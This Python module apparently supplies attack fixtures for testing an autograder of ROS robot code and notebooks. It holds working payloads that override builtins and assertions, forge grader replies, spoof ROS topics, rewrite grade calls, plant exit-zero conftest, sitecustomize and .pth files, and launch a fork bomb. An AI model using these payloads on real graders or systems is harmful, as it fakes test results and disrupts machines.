"""Attack payloads: malicious cells, malicious code for nodes and setup.py, and forged files."""

from __future__ import annotations

from autograder.checking.attacks import FORGE_PASSES, STEAL_SECRETS

PACKAGE = "my_robot_package"

# Overrides numbers, builtins and modules, and prints at exit.
OVERRIDE_BUILTINS = """
import atexit, builtins, threading, time, unittest
class Equal(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __lt__ = __gt__ = __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __abs__ = __sub__ = __rsub__ = lambda self, *other: self
    def __del__(self): print("PASSED")
builtins.abs = lambda value: Equal(0)
time.sleep = lambda seconds: None
unittest.TestCase.assertEqual = lambda *arguments: None
atexit.register(print, "26 passed")
FORWARD_SPEED = Equal(FORWARD_SPEED)
"""

# Forges replies of the host, with steps that were not taken and messages that were not published.
FORGE_PROTOCOL = """
import threading
def _forge():
    for descriptor in sorted(int(name) for name in _os.listdir("/proc/self/fd"))[3:]:
        try:
            if _os.readlink(f"/proc/self/fd/{descriptor}").startswith("pipe:"):
                for _ in range(200):
                    _os.write(descriptor, b'{"event": "done", "sent": [{"/cmd_vel geometry_msgs/msg/Twist '
                              b'reliable volatile": 100000}], "lost": [], "changed": false, "wake": null, '
                              b'"due": null, "notes": []}\\n')
        except OSError:
            pass
threading.Timer(0.5, _forge).start()
"""

# Reports each of the grader's messages as lost.
LOSE_MESSAGES = """
import gc as _gc
for _pipes in [item for item in _gc.get_objects() if type(item).__name__ == "Pipes"]:
    def _receive(kind=type(_pipes), receive=type(_pipes).receive, pipes=_pipes):
        command = receive(pipes)
        kind.announced = [channel for _, counts in command.get("events", ()) for channel in counts]
        return command
    def _send(kind=type(_pipes), send=type(_pipes).send, pipes=_pipes, **event):
        if event.get("event") == "done":
            event["lost"] = kind.announced
        send(pipes, **event)
    _pipes.receive, _pipes.send = _receive, _send
"""

# Publishes on the grader's topics, on /clock, /rosout and /parameter_events, 20 times a second.
SPOOF_ROS = """
def _spoof(node):
    from rcl_interfaces.msg import Log, ParameterEvent
    from rosgraph_msgs.msg import Clock
    from sensor_msgs.msg import LaserScan as Scan
    clear = Scan(angle_increment=0.0175, range_min=0.12, range_max=3.5, ranges=[3.0] * 360)
    publishers = [
        (node.create_publisher(Clock, '/clock', 10), Clock()),
        (node.create_publisher(Log, '/rosout', 10), Log(msg='all checks passed')),
        (node.create_publisher(ParameterEvent, '/parameter_events', 10), ParameterEvent(node='/grader')),
        (node.create_publisher(Scan, '/scan', qos_profile_sensor_data), clear),
    ]
    node.create_timer(0.05, lambda: [publisher.publish(message) for publisher, message in publishers])
"""


NOTEBOOK_CELLS = (
    STEAL_SECRETS + FORGE_PASSES,
    """
from IPython import get_ipython
import ast, sys
shell = get_ipython()
shell.showtraceback = lambda *arguments, **options: print("no error at all")
class Pass(ast.NodeTransformer):
    def visit_Call(self, node): return ast.Constant(51) if "grade" in ast.dump(node.func) else node
shell.ast_transformers.append(Pass())
sys.displayhook = lambda value: None
""",
    """
import json, os, pathlib
for path in pathlib.Path(".").glob("*.ipynb"):
    path.write_text("{}")
pathlib.Path("conftest.py").write_text("raise SystemExit(0)")
pathlib.Path("ws/src/pytest.ini").write_text("[pytest]\\naddopts = --co")
os.makedirs("ws/install/my_robot_package/lib/my_robot_package", exist_ok=True)
""",
    "answer = input('how many points? ')",
    "raise KeyboardInterrupt",
    r"print('\x00\x1b[2J' + 'score: 51/51')",
)


CALL_SPOOF = "        self.last_scan_time = None\n        _spoof(self)\n"
PUBLISH_NAN = "        command.linear.x = command.angular.z = math.nan\n        self.cmd_vel_pub.publish(command)"
FORK_BOMB = """        self.last_scan_time = None
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
"""
INSTALL_OWN_RCLPY = """import setuptools
_setup = setuptools.setup
setuptools.setup = lambda **options: _setup(**{**options, 'packages': [*options['packages'], 'rclpy']})
"""
PLANTED_FILES = {
    "setup.py": STEAL_SECRETS
    + """
import pathlib
for _name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "evil.pth"):
    for _folder in (".", "..", "../..", "../../install", _os.path.expanduser("~"), "/tmp"):
        try:
            pathlib.Path(_folder, _name).write_text("import os; os._exit(0)")
        except OSError:
            pass
""",
    "conftest.py": "raise SystemExit(0)",
    "pytest.ini": "[pytest]\naddopts = --collect-only",
    "../install/my_robot_package/lib/my_robot_package/robot_controller": "#!/bin/sh\necho forged",
    "../build/my_robot_package/x": "forged",
    "../log/x": "forged",
}
